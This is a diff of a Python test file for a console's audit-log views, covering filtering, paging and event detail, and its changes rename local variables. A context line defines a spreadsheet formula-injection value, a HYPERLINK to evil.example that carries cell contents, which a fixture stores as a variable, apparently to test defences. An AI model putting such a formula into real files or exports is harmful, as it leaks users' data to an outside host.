@@ -25,12 +25,12 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 @pytest.fixture
 def runtime(console_runtime: Callable[..., Runtime]) -> Runtime:
-    made = console_runtime()
-    engine = engine_of(made)
+    runtime = console_runtime()
+    engine = engine_of(runtime)
     consumers.create_consumer(engine, "ann", "acme")
     limits.set_limit(engine, "oli", "acme", "test", Rate("5/minute"))
     variables.set_variable(engine, "oli", "prod", "region", FORMULA)
-    return made
+    return runtime
 
 
 def many(engine: Engine, number: int, **values: object) -> None:
@@ -58,20 +58,20 @@ def test_events_are_filtered_by_actor_action_target_environment_and_time(runtime
     engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
     many(engine, 1, actor="olga", at=datetime.now(UTC) - timedelta(hours=5))
 
-    def found(**query: str) -> list[str]:
+    def actions(**query: str) -> list[str]:
         return [
             audit.event(engine, number).action for number in listed(vic.get("/audit", **query).text)
         ]
 
-    assert found(actor="oli") == ["variable:set", "limit:set"]
-    assert found(actor="olga") == ["key:created"]
-    assert found(actor="olga", since="1") == []
-    assert found(actor="olga", since="24") == ["key:created"]
-    assert found(action="limit:set") == ["limit:set"]
-    assert found(action="limit") == ["limit:set"]
-    assert found(subject="acme", action="consumer") == ["consumer:created"]
-    assert found(env="prod") == ["variable:set", "environment:created"]
-    assert set(found()) >= {
+    assert actions(actor="oli") == ["variable:set", "limit:set"]
+    assert actions(actor="olga") == ["key:created"]
+    assert actions(actor="olga", since="1") == []
+    assert actions(actor="olga", since="24") == ["key:created"]
+    assert actions(action="limit:set") == ["limit:set"]
+    assert actions(action="limit") == ["limit:set"]
+    assert actions(subject="acme", action="consumer") == ["consumer:created"]
+    assert actions(env="prod") == ["variable:set", "environment:created"]
+    assert set(actions()) >= {
         "user:signed-in",
         "variable:set",
         "limit:set",
@@ -103,26 +103,26 @@ def test_unknown_actions_and_spans_have_their_fault_beside_the_field(runtime: Ru
 def test_events_are_paged_by_key(runtime: Runtime) -> None:
     engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
     many(engine, 120)
-    found, path = list[int](), "/audit?actor=bot"
+    numbers, path = list[int](), "/audit?actor=bot"
     while path:
         page = vic.get(path).text
-        found += listed(page)
+        numbers += listed(page)
         match = re.search(r'href="/-/console([^"]+)" rel="next"', page)
         path = match[1].replace("&amp;", "&") if match else ""
         many(engine, 3)  # new events move nothing
 
-    assert len(found) == 120
-    assert found == sorted(set(found), reverse=True)
+    assert len(numbers) == 120
+    assert numbers == sorted(set(numbers), reverse=True)
 
 
 def test_the_page_of_an_event_shows_its_detail(runtime: Runtime) -> None:
     vic = ConsoleClient.of(runtime, "vic")
     (number,) = listed(vic.get("/audit", action="limit:set").text)
-    said = words_of(vic.get(f"/audit/{number}").text)
+    page = words_of(vic.get(f"/audit/{number}").text)
 
-    assert "limit:set acme" in said
-    assert "Actor oli" in said
-    assert "rate 5/minute by consumer pipelines none" in said
+    assert "limit:set acme" in page
+    assert "Actor oli" in page
+    assert "rate 5/minute by consumer pipelines none" in page
     assert "rate: 5/minute; by: consumer" in words_of(vic.get("/audit", action="limit:set").text)
 
 
